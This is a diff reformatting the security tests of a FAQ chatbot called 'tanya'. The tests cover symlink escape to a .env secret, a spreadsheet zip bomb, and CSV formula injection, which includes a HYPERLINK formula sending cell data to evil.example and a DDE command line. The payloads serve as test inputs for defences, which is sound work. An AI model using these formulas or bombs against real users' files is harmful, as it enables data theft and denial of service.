@@ -26,8 +26,15 @@ from tests.test_bot import _free_port, _post_update
 from tests.test_history import _history
 
 SECRET = "TANYA_BOT_TOKEN=123456:rahasia-zebra-7731"
-FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _hostile_folder(tmp_path: Path) -> Path:
@@ -35,7 +42,9 @@ def _hostile_folder(tmp_path: Path) -> Path:
     docs.mkdir()
     outside.mkdir()
     (outside / ".env").write_text(SECRET + "\n", encoding="utf-8")
-    (docs / "cuti.md").write_text("# Cuti\n\nCuti tahunan adalah dua belas hari kerja setiap tahun.\n", encoding="utf-8")
+    (docs / "cuti.md").write_text(
+        "# Cuti\n\nCuti tahunan adalah dua belas hari kerja setiap tahun.\n", encoding="utf-8"
+    )
     (docs / "settings.txt").symlink_to(outside / ".env")  # a link out of the folder
     (docs / "salinan.md").symlink_to(docs / "cuti.md")  # a link inside it: read
     (docs / "luar").symlink_to(outside, target_is_directory=True)  # a link to a folder: not followed
@@ -76,8 +85,10 @@ def _bomb(path: Path, inflated: int) -> Path:
             if part.filename != "xl/sharedStrings.xml":
                 bomb.writestr(part, source.read(part))
         with bomb.open("xl/sharedStrings.xml", "w") as strings:
-            strings.write(b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
-                          b'spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>')
+            strings.write(
+                b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
+                b'spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>'
+            )
             for _ in range(inflated // 2**20):
                 strings.write(b"A" * 2**20)
             strings.write(b"</t></si><si><t>Jawaban.</t></si></sst>")
@@ -93,8 +104,14 @@ def test_faq_import_refuses_a_spreadsheet_bomb_a_question_too_long_and_one_quest
     refused = run_tanya("faq", "import", str(bomb))
     assert refused.returncode == 2 and "unzips to 101 MiB, over the 100 MiB limit" in refused.stderr
     assert time.monotonic() - started < 30
-    rows = [["question", "answer"], ["Kapan kantor buka?", "Pukul 08.00."], ["x" * (MAX_QUESTION_CHARS + 1), "Ya."],
-            ["kapan  KANTOR buka?", "Pukul 09.00."], ["Di mana parkir?", "Di B1."], ["Kapan kantor buka?", "Pukul 08.00."]]
+    rows = [
+        ["question", "answer"],
+        ["Kapan kantor buka?", "Pukul 08.00."],
+        ["x" * (MAX_QUESTION_CHARS + 1), "Ya."],
+        ["kapan  KANTOR buka?", "Pukul 09.00."],
+        ["Di mana parkir?", "Di B1."],
+        ["Kapan kantor buka?", "Pukul 08.00."],
+    ]
     conflicting = tmp_path / "faq.csv"
     with conflicting.open("w", encoding="utf-8", newline="") as out:
         csv.writer(out).writerows(rows)
@@ -116,8 +133,23 @@ def test_no_cell_of_an_exported_csv_starts_a_formula_and_a_faq_export_imports_ba
     listed = run_tanya("faq", "list").stdout
     history = _history(data_dir, 90).start()  # questions asked in chat are kept as asked
     for number, formula in enumerate(FORMULAS):
-        history.record(Asked(new_ref(), time.time(), "private", "en", history.user(number), formula, "a.md", 1, 1,
-                             0.1, True, 0.01, None))
+        history.record(
+            Asked(
+                new_ref(),
+                time.time(),
+                "private",
+                "en",
+                history.user(number),
+                formula,
+                "a.md",
+                1,
+                1,
+                0.1,
+                True,
+                0.01,
+                None,
+            )
+        )
     history.close()
     exported, report = tmp_path / "export.csv", tmp_path / "report.csv"
     assert run_tanya("faq", "export", str(exported)).returncode == 0
@@ -125,7 +157,9 @@ def test_no_cell_of_an_exported_csv_starts_a_formula_and_a_faq_export_imports_ba
     for written in (exported, report):
         with written.open(encoding="utf-8", newline="") as handle:
             cells = [cell for row in csv.reader(handle) for cell in row]
-        assert len(cells) >= 2 * len(FORMULAS) and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], written
+        assert len(cells) >= 2 * len(FORMULAS) and not [
+            cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        ], written
     assert sum(cell.startswith("'=") for cell in exported.read_text(encoding="utf-8").split(",")) >= 2
     assert run_tanya("faq", "import", str(exported)).returncode == 0
     assert run_tanya("faq", "list").stdout == listed  # read back as it was taught
@@ -176,12 +210,22 @@ def test_the_webhook_refuses_bodies_too_large_or_not_an_update_and_answers_copie
         assert _raw_post(port, body) == 400, body
     assert _raw_post(port, b"{" + b" " * (99 * 2**20), secret="wrong") in (0, 400)  # never read whole
     chat = {"id": 3101, "type": "private"}
-    message = {"message_id": 7, "date": int(time.time()), "chat": chat, "text": "Why is energy a key area of cooperation?",
-               "from": {"id": 3101, "is_bot": False, "first_name": "W", "language_code": "en"}}
+    message = {
+        "message_id": 7,
+        "date": int(time.time()),
+        "chat": chat,
+        "text": "Why is energy a key area of cooperation?",
+        "from": {"id": 3101, "is_bot": False, "first_name": "W", "language_code": "en"},
+    }
     statuses: list[int] = []
-    copies = [threading.Thread(target=lambda: statuses.append(_post_update(port, {"update_id": 77, "message": message},
-                                                                           secret="s3cret-token")))
-              for _ in range(3)]
+    copies = [
+        threading.Thread(
+            target=lambda: statuses.append(
+                _post_update(port, {"update_id": 77, "message": message}, secret="s3cret-token")
+            )
+        )
+        for _ in range(3)
+    ]
     for copy in copies:
         copy.start()
     for copy in copies:
